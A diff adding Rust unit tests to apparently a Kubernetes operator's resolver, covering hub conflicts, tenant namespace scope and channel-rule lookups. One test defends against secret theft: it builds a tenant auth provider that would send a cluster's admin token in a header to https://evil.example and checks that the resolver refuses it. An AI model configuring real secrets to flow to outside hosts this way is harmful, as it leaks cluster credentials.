@@ -9,7 +9,7 @@ use kube::Resource;
 use serde::de::DeserializeOwned;
 use serde_json::{Value, json};
 
-use super::{Resolved, resolve};
+use super::{Resolved, resolve, unseen};
 use crate::{
     verdict::{Reason, Verdict},
     world::{Read, Secrets, World},
@@ -155,6 +155,17 @@ fn of_two_with_one_identity_the_older_wins() {
 }
 
 #[test]
+fn an_older_one_that_is_not_valid_keeps_its_place() {
+    let (kind, place, mut spec) = hub("a/shop");
+    spec["allowedOrigins"] = json!(["nothing"]);
+    let tenants = json!({"namespaces": ["a", "b"]});
+    let both = resolve(&world(&[cluster(tenants), (kind, place, spec), hub("b/shop")]));
+    assert_eq!(reason(&both, "Hub a/shop"), Some(Reason::Invalid));
+    assert_eq!(reason(&both, "Hub b/shop"), Some(Reason::Conflict));
+    assert!(both.wanted.values().all(|wanted| wanted.entries.is_empty()));
+}
+
+#[test]
 fn what_lacks_is_named() {
     let provider = json!({"hubRef": {"name": "shop"}, "jwt": {"secretKeyRef": {"name": "keys", "key": "jwt"}}});
     let objects = [
@@ -197,4 +208,99 @@ fn what_can_not_be_read_stops_nothing_else_and_is_kept() {
     assert_eq!(reason(&resolved, "Hub apps/odd"), Some(Reason::Undecodable));
     assert_eq!(kept(&resolved), ["uid-2".to_owned(), "uid-odd".to_owned()].into());
     assert_eq!(wanted(&resolved), ["Hub shop"]);
+}
+
+fn secret(metadata: Value) -> Arc<k8s_openapi::api::core::v1::Secret> {
+    let data = json!({"admin-token": "aHVzaCBodXNoIGh1c2ggaHVzaCBodXNoIGh1c2ggaHU="});
+    Arc::new(serde_json::from_value(json!({"metadata": metadata, "data": data})).expect("it is a Secret"))
+}
+
+/// Or who may only write tenants' resources beside a cluster could have its keys sent anywhere.
+#[test]
+fn what_is_a_clusters_is_no_value_for_tenants() {
+    let header = json!({"name": "X", "secretKeyRef": {"name": "main-keys", "key": "admin-token"}});
+    let http = json!({"url": "https://evil.example", "headers": [header]});
+    let connections = json!({"redis": {"name": "broker", "key": "url"}});
+    let mut world = world(&[
+        ("AppSocketsCluster", "platform/main", json!({"image": "node:1", "connections": connections})),
+        hub("platform/shop"),
+        ("AuthProvider", "platform/own", json!({"hubRef": {"name": "shop"}, "http": http})),
+    ]);
+    let mut said = |secret_name: &str, metadata: Value| {
+        let provider = world.providers[0].0.as_ref().unwrap();
+        let mut provider = provider.clone();
+        let headers = &mut provider.spec.http.as_mut().unwrap().headers;
+        headers[0].secret_key_ref.as_mut().unwrap().name = secret_name.to_owned();
+        world.providers[0] = Arc::new(crate::world::Guarded(Ok(provider)));
+        let secrets = [(secret_name.to_owned(), secret(metadata))];
+        world.secrets.insert("platform".into(), Secrets::Read(secrets.into()));
+        let resolved = resolve(&world);
+        (reason(&resolved, "AuthProvider platform/own"), kept(&resolved).contains("uid-2"))
+    };
+    let refused = (Some(Reason::SecretReserved), true);
+    let owner =
+        json!([{"apiVersion": "appsockets.io/v1alpha1", "kind": "AppSocketsCluster", "name": "main", "uid": "u"}]);
+    for metadata in [
+        json!({"name": "main-keys", "labels": {"app.kubernetes.io/managed-by": "appsockets-operator"}}),
+        json!({"name": "main-keys", "labels": {"appsockets.io/cluster": "main"}}),
+        json!({"name": "main-keys", "ownerReferences": owner}),
+    ] {
+        assert_eq!(said("main-keys", metadata), refused);
+    }
+    assert_eq!(said("broker", json!({"name": "broker"})), refused, "nodes connect by it");
+    assert_eq!(said("own", json!({"name": "own", "labels": {"team": "a"}})), (None, false));
+}
+
+#[test]
+fn nodes_are_handed_nothing_of_a_cluster_of_whose_hubs_only_some_are_seen() {
+    for (tenants, others) in [
+        (json!({}), None),
+        (json!({"namespaces": ["platform"]}), None),
+        (json!({"namespaces": ["platform", "bar"]}), Some("the namespace bar")),
+        (json!({"namespaces": ["bar", "apps", "x"]}), Some("the namespace bar and 2 more")),
+        (json!({"all": true}), Some("all namespaces")),
+    ] {
+        let mut world = world(&[cluster(tenants), hub("platform/shop")]);
+        assert_eq!(resolve(&world).wanted.len(), 1, "who sees all hands it over");
+        world.scope = Some("platform".into());
+        let resolved = resolve(&world);
+        assert_eq!(resolved.wanted.is_empty(), others.is_some());
+        assert_eq!(reason(&resolved, "Hub platform/shop"), others.map(|_| Reason::ClusterNotServed));
+        let cluster = world.clusters[0].0.as_ref().unwrap();
+        assert_eq!(unseen(cluster, world.scope.as_deref()).as_deref(), others);
+    }
+}
+
+#[test]
+fn rules_that_can_not_be_used_are_not_said_to_be_missing() {
+    let bound = |rules: &str| json!({"hubRef": {"name": "shop"}, "rulesRef": {"name": rules}});
+    let rules = |hub: &str| json!({"hubRef": {"name": hub}, "redundancy": 9});
+    let mut world = world(&[
+        cluster(json!({"all": true})),
+        hub("apps/shop"),
+        ("Hub", "apps/other", json!({"clusterRef": {"name": "main", "namespace": "platform"}})),
+        ("ChannelRules", "apps/invalid", rules("shop")),
+        ("ChannelRules", "apps/of-others", rules("other")),
+        ("Namespace", "apps/a", bound("invalid")),
+        ("Namespace", "apps/b", bound("odd")),
+        ("Namespace", "apps/c", bound("friendly")),
+        ("Namespace", "apps/d", bound("of-others")),
+        ("Namespace", "apps/e", bound("strange")),
+    ]);
+    for (namespace, name) in [("apps", "odd"), ("friends", "friendly"), ("bar", "strange")] {
+        world.rules.push(read(json!({
+            "apiVersion": "appsockets.io/v1alpha1", "kind": "ChannelRules", "spec": {"hubRef": 7},
+            "metadata": {"namespace": namespace, "name": name, "uid": format!("uid-{name}")},
+        })));
+    }
+    let resolved = resolve(&world);
+    for invalid in ["invalid", "of-others"] {
+        assert_eq!(reason(&resolved, &format!("ChannelRules apps/{invalid}")), Some(Reason::Invalid));
+    }
+    for namespace in ["a", "b", "c"] {
+        let said = reason(&resolved, &format!("Namespace apps/{namespace}"));
+        assert_eq!(said, Some(Reason::RulesNotServed), "nodes keep what they have of the rules of {namespace}");
+    }
+    assert_eq!(reason(&resolved, "Namespace apps/d"), Some(Reason::RulesNotFound), "those are another hub's");
+    assert_eq!(reason(&resolved, "Namespace apps/e"), Some(Reason::RulesNotFound), "the hub lets none from there");
 }
